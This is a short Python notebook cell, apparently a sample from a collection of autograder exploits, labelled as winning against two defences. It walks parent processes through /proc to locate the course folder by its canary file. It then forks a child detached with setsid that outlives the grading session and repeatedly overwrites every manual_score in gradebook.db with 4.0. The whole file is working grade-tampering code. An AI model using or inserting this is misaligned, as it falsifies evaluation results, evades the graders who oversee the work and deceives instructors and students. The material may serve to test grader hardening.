# Tries: A process in a session of its own waits until the grading is over and rewrites gradebook.db then.
# Wins against: both
# %% cell: q1_minimum
import sys
import time
import os
import pathlib
import sqlite3


def course():
    """Return the class folder: where a process above this one works. Only one with a canary."""
    pid = os.getpid()
    while pid > 1:
        here = pathlib.Path(os.readlink(f"/proc/{pid}/cwd"))
        for folder in (here, *here.parents):
            if (folder / "canary.txt").exists() and (folder / "source").is_dir():
                return folder
        pid = int(pathlib.Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[1])
    raise FileNotFoundError


database = course() / "gradebook.db"
sys.stdout.flush()
if os.fork() == 0:
    os.setsid()
    for _ in range(60):
        time.sleep(0.5)
        try:
            with sqlite3.connect(database) as connection:
                connection.execute("UPDATE grade SET manual_score = 4.0")
        except sqlite3.Error:
            pass
    os._exit(0)
